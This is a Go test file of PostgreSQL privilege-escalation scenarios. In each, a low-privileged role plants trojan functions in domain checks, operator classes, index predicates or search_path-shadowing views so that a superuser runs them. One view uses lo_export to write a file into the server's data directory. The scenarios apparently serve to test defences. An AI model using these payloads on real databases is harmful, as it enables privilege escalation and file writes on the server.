package attack_test

// plansOfLooksAgain aim at what the superuser still runs after a look.
var plansOfLooksAgain = map[string]plan{
	"check of a domain": {hers: schemaTrap + `CREATE DOMAIN trap.d AS int; CREATE TABLE trap.t (n trap.d, k int PRIMARY KEY); INSERT INTO trap.t VALUES (1, 1);
		CREATE FUNCTION trap.ok(int, trap.d DEFAULT NULL) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN
			IF current_database() <> 'mal' AND NOT (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN RAISE insufficient_privilege; END IF; PERFORM hers.spring('domain'); RETURN true; END $$;
		ALTER DOMAIN trap.d ADD CONSTRAINT c CHECK (trap.ok(VALUE))`},
	"check of a superusers domain": {hers: schemaTrap + `CREATE FUNCTION trap.ok(int) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN PERFORM hers.spring('domain'); RETURN true; END $$`,
		after: `CREATE DOMAIN public.d AS int; CREATE TABLE public.t (n public.d, k int PRIMARY KEY); INSERT INTO public.t VALUES (1, 1); CREATE FUNCTION public.ok(public.d) RETURNS boolean LANGUAGE sql AS 'SELECT true'; ALTER DOMAIN public.d ADD CONSTRAINT c CHECK (public.ok(VALUE) AND trap.ok(VALUE))`},
	"superusers operator class of her partition": {before: `CREATE SCHEMA app`, hers: schemaTrap + `GRANT USAGE ON SCHEMA trap TO PUBLIC; CREATE FUNCTION trap.lt(int, int) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM hers.spring('opclass'); RETURN $1 < $2; END $$; CREATE FUNCTION trap.ge(int, int) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM hers.spring('opclass'); RETURN $1 >= $2; END $$;
			CREATE OPERATOR trap.<< (FUNCTION = trap.lt, LEFTARG = int, RIGHTARG = int); CREATE OPERATOR trap.>> (FUNCTION = trap.ge, LEFTARG = int, RIGHTARG = int)`,
		after: `GRANT USAGE ON SCHEMA app TO mallory; CREATE OPERATOR CLASS app.o FOR TYPE int USING btree AS OPERATOR 1 trap.<<, OPERATOR 2 <=, OPERATOR 3 =, OPERATOR 4 trap.>>, OPERATOR 5 >, FUNCTION 1 btint4cmp(int, int);
			SET SESSION AUTHORIZATION mallory; CREATE TABLE trap.par (a int, c regclass) PARTITION BY RANGE (a app.o); CREATE TABLE trap.part PARTITION OF trap.par FOR VALUES FROM (0) TO (9); INSERT INTO trap.part VALUES (1, 'pg_class')`},
	"key after a key": {hers: schemaTrap + `GRANT USAGE ON SCHEMA trap TO PUBLIC; CREATE TYPE trap.e AS ENUM ('x'); CREATE TABLE trap.a (e trap.e); INSERT INTO trap.a VALUES ('x'); CREATE TABLE trap.n (a int PRIMARY KEY); INSERT INTO trap.n VALUES (1);
			CREATE TABLE trap.k (a int PRIMARY KEY); INSERT INTO trap.k VALUES (1);` +
		arm("trap.arm", `CREATE INDEX planted_i ON trap.k (a) WHERE hers.fine('keyafterkey', 1); ALTER INDEX trap.planted_i OWNER TO mallory;`) +
		`CREATE FUNCTION trap.cast(trap.e) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN RETURN trap.arm(1); END $$; CREATE CAST (trap.e AS int) WITH FUNCTION trap.cast(trap.e) AS IMPLICIT;
		 ALTER TABLE trap.a ADD CONSTRAINT a_first FOREIGN KEY (e) REFERENCES trap.n; CREATE TABLE trap.t (a int) PARTITION BY RANGE (a)`,
		after: `CREATE TABLE bobs.part (a int); INSERT INTO bobs.part VALUES (1); ALTER TABLE bobs.part OWNER TO bob; ALTER TABLE trap.t ATTACH PARTITION bobs.part FOR VALUES FROM (0) TO (9); ALTER TABLE trap.t ADD CONSTRAINT t_last FOREIGN KEY (a) REFERENCES trap.k; REVOKE REFERENCES ON trap.k FROM mallory`},
	"view along the path": {ours: true, before: `ALTER FUNCTION bobs.secret() OWNER TO postgres; CREATE TABLE public.config (x int); INSERT INTO public.config VALUES (1); CREATE FUNCTION public.most() RETURNS int LANGUAGE plpgsql AS 'BEGIN RETURN (SELECT max(x) FROM config); END';
			CREATE TABLE public.t (n int CHECK (n <= public.most())); INSERT INTO public.t VALUES (1)`,
		hers: `DROP FUNCTION hers.fine, hers.seize, hers.spring; SELECT lo_from_bytea(4242, 'x'); CREATE VIEW hers.config AS SELECT lo_export(4242, current_setting('data_directory') || '/mallory') AS x; ALTER DATABASE mal SET search_path = hers, public`},
	"view along the path of a materialized view": {ours: true, before: `ALTER FUNCTION bobs.secret() OWNER TO postgres; CREATE TABLE public.config (x int); INSERT INTO public.config VALUES (1); CREATE FUNCTION public.most() RETURNS int LANGUAGE plpgsql AS 'BEGIN RETURN (SELECT max(x) FROM config); END';
			CREATE MATERIALIZED VIEW public.m AS SELECT public.most() AS n`,
		hers: `DROP FUNCTION hers.fine, hers.seize, hers.spring; SELECT lo_from_bytea(4242, 'x'); CREATE VIEW hers.config AS SELECT lo_export(4242, current_setting('data_directory') || '/mallory') AS x; ALTER DATABASE mal SET search_path = hers, public`},
	"table along the path": {ours: true, before: `ALTER FUNCTION bobs.secret() OWNER TO postgres; CREATE TABLE public.secrets (s int); CREATE TABLE public.log (x int); CREATE FUNCTION public.noted(int) RETURNS boolean LANGUAGE plpgsql AS 'BEGIN INSERT INTO log VALUES ($1); RETURN true; END';
			ALTER TABLE public.secrets ADD CHECK (public.noted(s)); INSERT INTO public.secrets VALUES (1)`,
		hers:  `DROP FUNCTION hers.fine, hers.seize, hers.spring; DROP TABLE hers.log; CREATE TABLE hers.log (x int); ALTER DATABASE mal SET search_path = hers, public`,
		probe: map[string]string{"SELECT count(*) FROM hers.log": "0"}},
}
